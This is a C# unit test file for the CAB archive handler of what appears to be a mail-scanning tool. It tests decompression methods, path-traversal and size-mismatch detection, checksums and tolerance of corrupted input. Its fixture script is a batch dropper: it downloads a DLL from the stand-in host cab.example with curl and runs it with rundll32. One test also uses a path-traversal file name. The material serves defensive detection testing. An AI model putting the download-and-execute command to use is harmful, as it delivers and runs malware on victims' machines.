using System.Buffers.Binary;
using System.Text;
using Lurewatch.Files.Archives;
using Lurewatch.Samples;
using Shouldly;
using Xunit;

namespace Lurewatch.Tests.Files.Archives;

public sealed class CabHandlerTests
{
    private static readonly byte[] Script = Encoding.ASCII.GetBytes("@echo off\r\ncurl http://cab.example/a.dll -o %TEMP%\\a.dll\r\nrundll32 %TEMP%\\a.dll,Start\r\n");

    /// <summary>Over several frames, with repetitions near and far.</summary>
    private static readonly byte[] Large = [.. Enumerable.Range(0, 150_001).Select(i => (byte)(i % 1009 % 251 ^ (i >> 13)))];

    [Theory]
    [InlineData("none")]
    [InlineData("mszip")]
    [InlineData("lzx")]
    public void Files_come_out_whatever_packs_them(string method)
    {
        var analysis = Scan(CabWriter.Write([("large.bin", Large), ("Ordner\\Rechnung ü.bat", Script), ("empty.txt", [])], method));
        analysis.Artifacts.Select(file => file.Path).ShouldBe(["/", "/large.bin", "/Ordner/Rechnung ü.bat", "/empty.txt"]);
        analysis.Artifacts[1].Bytes.ToArray().ShouldBe(Large);
        analysis.Artifacts[2].Bytes.ToArray().ShouldBe(Script);
        analysis.Artifacts[0].Unopened.ShouldBeNull();
        Facts(analysis).Problems.ShouldBeEmpty();
        analysis.Indicators.ShouldContain(indicator => indicator.Value == "http://cab.example/a.dll");
    }

    /// <summary>A match of length 3 at distance 3 by fixed codes: it reaches into the block before.</summary>
    [Fact]
    public void A_block_of_MSZIP_refers_to_the_output_of_the_one_before()
    {
        var cabinet = CabWriter.Write([("a.txt", [.. new byte[32765], (byte)'a', (byte)'b', (byte)'c', (byte)'x', (byte)'x', (byte)'x'])]);
        var second = cabinet.AsSpan().LastIndexOf("CK"u8);
        // final, fixed codes; 257 is 0000001, distance code 2 is 00010, end of block is 0000000
        byte[] block = [.. cabinet[..second], (byte)'C', (byte)'K', 0b0000_0011, 0b0010_0010, 0b0000_0000];
        Bits(block, second + 2, "1" + "10" + "0000001" + "00010" + "0000000");
        BinaryPrimitives.WriteInt32LittleEndian(block.AsSpan(second - 8), 0); // no checksum
        BinaryPrimitives.WriteInt16LittleEndian(block.AsSpan(second - 4), 5);
        var analysis = Scan(block);
        analysis.Artifacts[1].Bytes.Span[^6..].ToArray().ShouldBe("abcabc"u8.ToArray());
    }

    [Fact]
    public void Quantum_is_told_apart_and_said_to_be_unopened()
    {
        var analysis = Scan(CabWriter.Write([("a.bat", Script)], "quantum"));
        analysis.Artifacts[0].Unopened.ShouldBe("unsupported");
        Facts(analysis).Entries.Single().ShouldBe(new ArchiveEntry("a.bat", Script.Length, 0, null, "unsupported"));
        Facts(analysis).Problems.ShouldContain(problem => problem.Id == "method-unsupported" && problem.Detail.Contains("Quantum", StringComparison.Ordinal));
    }

    [Fact]
    public void A_name_that_leads_out_and_a_size_that_lies_are_noted_and_the_content_comes_out_all_the_same()
    {
        var cabinet = CabWriter.Write([("..\\msword.inf", Script)], "none");
        BinaryPrimitives.WriteUInt32LittleEndian(cabinet.AsSpan(44), 0x80000000); // 2 GiB
        var analysis = Scan(cabinet);
        analysis.Artifacts[1].Bytes.ToArray().ShouldBe(Script);
        analysis.Artifacts[0].Unopened.ShouldBe("damaged");
        Facts(analysis).Problems.Select(problem => problem.Id).ShouldBe(["path-traversal", "content-cut"], ignoreOrder: true);
    }

    [Fact]
    public void A_file_that_comes_from_another_cabinet_is_said_to_be_split()
    {
        var cabinet = CabWriter.Write([("a.bat", Script)]);
        cabinet[44 + 8] = 0xfe;
        cabinet[44 + 9] = 0xff;
        Facts(Scan(cabinet)).Problems.ShouldContain(problem => problem.Id == "split");
    }

    [Fact]
    public void A_wrong_checksum_is_noted()
    {
        var cabinet = CabWriter.Write([("a.bat", Script)], "none");
        cabinet[^1] ^= 1;
        Facts(Scan(cabinet)).Problems.ShouldContain(problem => problem.Id == "content-damaged");
    }

    [Fact]
    public void What_came_before_damage_is_kept()
    {
        var cabinet = CabWriter.Write([("large.bin", Large)], "lzx");
        var analysis = Scan(cabinet[..(cabinet.Length / 2)]);
        analysis.Artifacts[0].Unopened.ShouldBe("damaged");
        analysis.Artifacts[1].Bytes.Length.ShouldBeGreaterThan(30_000);
        analysis.Artifacts[1].Bytes.Span.CommonPrefixLength(Large).ShouldBe(analysis.Artifacts[1].Bytes.Length);
    }

    [Fact]
    public void Every_cut_and_every_flipped_byte_is_read_without_a_throw()
    {
        foreach (var method in new[] { "none", "mszip", "lzx" })
        {
            var cabinet = CabWriter.Write([("a.bat", Script), ("b.bin", Large[..40_000])], method);
            for (var length = 4; length < cabinet.Length; length += 97) Scan(cabinet[..length]);
            for (var at = 8; at < Math.Min(cabinet.Length, 700); at++)
            {
                var changed = (byte[])cabinet.Clone();
                changed[at] ^= 0xff;
                Scan(changed);
            }
        }
    }

    private static void Bits(byte[] to, int at, string bits)
    {
        to.AsSpan(at).Clear();
        for (var i = 0; i < bits.Length; i++)
            if (bits[i] == '1') to[at + (i / 8)] |= (byte)(1 << (i % 8));
    }

    private static Analysis Scan(byte[] bytes) => new MailScanner(new ScanOptions { Strict = true }).Scan(bytes, "a.cab");

    private static ArchiveFacts Facts(Analysis analysis) => analysis.Artifacts[0].Facts.ShouldBeOfType<ArchiveFacts>();
}
